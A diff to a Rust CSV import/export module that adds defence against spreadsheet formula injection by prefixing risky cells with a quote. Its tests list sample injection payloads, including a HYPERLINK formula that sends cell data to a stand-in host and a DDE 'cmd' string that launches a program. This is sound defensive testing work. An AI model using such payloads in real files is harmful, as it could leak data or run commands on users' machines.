@@ -4,7 +4,10 @@
 //! by "; "), optionally with a UTF-8 byte order mark for spreadsheet programs. Import maps each
 //! header to a field by its name, label or importer synonym; a column that matches no field is
 //! kept in the record's notes (or reported, for kinds without notes), never silently dropped.
-//! No I/O here.
+//!
+//! A cell a spreadsheet would run as a formula (one starting with `=`, `+`, `-`, `@`, a tab or a
+//! carriage return) is written with a leading `'`, as OWASP advises against CSV injection, and
+//! import takes that `'` off again, so our own export reads back as it was. No I/O here.
 
 use std::collections::BTreeMap;
 
@@ -122,7 +125,7 @@ pub fn parse(kind: &'static KindDef, bytes: &[u8]) -> Result<Parsed, CsvError> {
         }
         let mut extra = Vec::new();
         for (i, cell) in row.iter().enumerate() {
-            let cell = cell.trim();
+            let cell = unneutralise(cell.trim());
             if cell.is_empty() {
                 continue;
             }
@@ -181,6 +184,7 @@ pub fn write(kind: &KindDef, records: &[Record], bom: bool) -> Vec<u8> {
                 Some(v) => v.display(),
                 None => String::new(),
             }))
+            .map(neutralise)
             .collect::<Vec<_>>()
     });
     // Writing to memory cannot fail.
@@ -191,6 +195,68 @@ pub fn write(kind: &KindDef, records: &[Record], bom: bool) -> Vec<u8> {
     let _ = writer.flush();
     drop(writer);
     out
+}
+
+/// What makes a spreadsheet read a cell as a formula when it comes first (OWASP's list).
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether a cell that starts like a formula is only numbers or phone numbers: `-12.5`,
+/// `+46 70 123 45 67`, `+1 (555) 010-0100; 08-123 456` (a list, as phones are written). These
+/// are written as they are, so phone numbers stay readable in a spreadsheet rather than shown
+/// behind a stray `'`. They are safe as they are: with no letter there is no function
+/// (`HYPERLINK`, `WEBSERVICE`), no cell reference and no DDE (`cmd|…`), and without `|`, `!`,
+/// `"`, `&` or `:` there is nothing to call or join — at worst a spreadsheet does arithmetic on
+/// the digits. A `+` or `@` anywhere but first in a number (`-2+3`), or a `-` starting anything
+/// but a plain number, still gets the `'`.
+fn plain_number(cell: &str) -> bool {
+    let digits_start = |s: &str| s.starts_with(|c: char| c.is_ascii_digit());
+    let phone = |s: &str| {
+        digits_start(s)
+            && s.chars()
+                .all(|c| c.is_ascii_digit() || " ()./-".contains(c))
+    };
+    cell.split(';').map(str::trim).all(|part| {
+        if let Some(number) = part.strip_prefix('-') {
+            // A negative number: digits with at most one decimal point or comma.
+            digits_start(number)
+                && number
+                    .chars()
+                    .all(|c| c.is_ascii_digit() || c == '.' || c == ',')
+                && number.matches(['.', ',']).count() <= 1
+        } else {
+            phone(part.strip_prefix('+').unwrap_or(part))
+        }
+    })
+}
+
+/// Whether import would take a leading `'` off this cell (so export must add one).
+fn starts_neutralised(cell: &str) -> bool {
+    let mut chars = cell.chars();
+    chars.next() == Some('\'')
+        && chars
+            .next()
+            .is_some_and(|c| c == '\'' || FORMULA_START.contains(&c))
+}
+
+/// A cell as written: with a leading `'` when a spreadsheet would run it as a formula (and
+/// when it already starts with what import would take for our `'`, so it reads back as it was).
+fn neutralise(cell: String) -> String {
+    let formula = cell.starts_with(FORMULA_START) && !plain_number(&cell);
+    if formula || starts_neutralised(&cell) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+/// A cell as read: the `'` that [`neutralise`] added is taken off. Only a `'` followed by a
+/// formula character or another `'` is ours; any other leading `'` is the cell's own.
+fn unneutralise(cell: &str) -> &str {
+    if starts_neutralised(cell) {
+        &cell[1..]
+    } else {
+        cell
+    }
 }
 
 /// Imports records of `kind` from a CSV file (headers matched to the kind's fields).
@@ -259,5 +325,144 @@ mod tests {
             err.to_string(),
             "line 3: not UTF-8 text (save the file as CSV UTF-8)"
         );
+    }
+
+    /// The cells of issue 24's review: each would run, or reach out, in a spreadsheet.
+    const ATTACKS: [&str; 6] = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+        "@SUM(1)",
+        "-2+3",
+        "+cmd|' /C calc'!A0",
+        "\tTab first",
+        "\rReturn first",
+    ];
+
+    fn contact(id: &str, name: &str, org: &str, phones: &[&str]) -> Record {
+        let mut fields = BTreeMap::new();
+        fields.insert("name".into(), Value::Text(name.into()));
+        fields.insert("org".into(), Value::Text(org.into()));
+        fields.insert(
+            "phones".into(),
+            Value::List(phones.iter().map(|p| p.to_string()).collect()),
+        );
+        Record {
+            kind: "contact".into(),
+            id: id.into(),
+            fields,
+            deleted: false,
+        }
+    }
+
+    #[test]
+    fn formula_cells_are_written_behind_a_quote_and_numbers_and_phones_are_not() {
+        for attack in ATTACKS {
+            assert_eq!(neutralise(attack.into()), format!("'{attack}"));
+        }
+        for plain in [
+            "+46 70 123",
+            "+46 70 123 45 67",
+            "+1 (555) 010-0100",
+            "-12",
+            "-12.5",
+            "08-123 456",
+            "+46 70 123 45 67; +46 8 555 000; 08-123 456",
+            "Åsa Öberg",
+            "it's fine",
+        ] {
+            assert_eq!(neutralise(plain.into()), plain, "left as it is");
+        }
+        for formula in [
+            "+46 70 123 ext. 4",
+            "+46 70 123; -2+3",
+            "+46 70 123; @x",
+            "-1-1",
+            "+1+1",
+            "-",
+            "+",
+            "+A1",
+            "-.5",
+            "+;",
+        ] {
+            assert!(neutralise(formula.into()).starts_with('\''), "{formula}");
+        }
+        // A cell that already starts like one we neutralised keeps its own quote.
+        assert_eq!(neutralise("'=x".into()), "''=x");
+        assert_eq!(neutralise("''".into()), "'''");
+        assert_eq!(unneutralise("''=x"), "'=x");
+        assert_eq!(unneutralise("'quoted'"), "'quoted'", "not ours: kept");
+    }
+
+    #[test]
+    fn our_export_reads_back_as_it_was_and_a_second_reader_sees_the_quote() {
+        let kind = crate::catalog::kind("contact").unwrap();
+        let mut records: Vec<Record> = ATTACKS
+            .iter()
+            .enumerate()
+            .map(|(i, a)| contact(&format!("c{i}"), a, a, &[a]))
+            .collect();
+        records.push(contact(
+            "p",
+            "'=quoted",
+            "'plain",
+            &["+46 70 123", "08-123"],
+        ));
+        records.push(contact("q", "q", "q", &["+46 70 123", "@x"]));
+        let bytes = write(kind, &records, true);
+
+        // The csv crate, as a spreadsheet would get the cells: none starts a formula.
+        let mut reader = csv::Reader::from_reader(&bytes[3..]);
+        let header = reader.headers().unwrap().clone();
+        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+        for (row, attack) in rows.iter().zip(ATTACKS) {
+            for name in ["name", "org", "phones"] {
+                assert_eq!(&row[column(name)], format!("'{attack}"), "{name}");
+            }
+        }
+        let last = &rows[ATTACKS.len()];
+        assert_eq!(&last[column("name")], "''=quoted");
+        assert_eq!(&last[column("org")], "'plain");
+        assert_eq!(
+            &last[column("phones")],
+            "+46 70 123; 08-123",
+            "phones as they are"
+        );
+        let after = &rows[ATTACKS.len() + 1];
+        assert_eq!(
+            &after[column("phones")],
+            "'+46 70 123; @x",
+            "not only phones"
+        );
+
+        // Read back by our import: the quotes we added are gone, the values as they were (the
+        // quote even keeps a leading tab from being trimmed away).
+        let parsed = parse(kind, &bytes).unwrap();
+        for (row, record) in parsed.rows.iter().zip(&records) {
+            for name in ["name", "org"] {
+                assert_eq!(row[name], record.fields[name].display(), "{name}");
+            }
+        }
+        let phones = |i: usize| parsed.rows[i]["phones"].clone();
+        assert_eq!(phones(0), serde_json::json!([ATTACKS[0]]));
+        assert_eq!(
+            phones(ATTACKS.len()),
+            serde_json::json!(["+46 70 123", "08-123"])
+        );
+        assert_eq!(
+            phones(ATTACKS.len() + 1),
+            serde_json::json!(["+46 70 123", "@x"])
+        );
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn import_undoes_exactly_what_export_did(cell in "['=+@\\t\\r -]{0,3}.{0,6}") {
+            let written = neutralise(cell.clone());
+            proptest::prop_assert_eq!(unneutralise(&written), cell.as_str());
+            proptest::prop_assert!(
+                !written.starts_with(FORMULA_START) || plain_number(&written),
+                "{:?} starts a formula", written
+            );
+        }
     }
 }
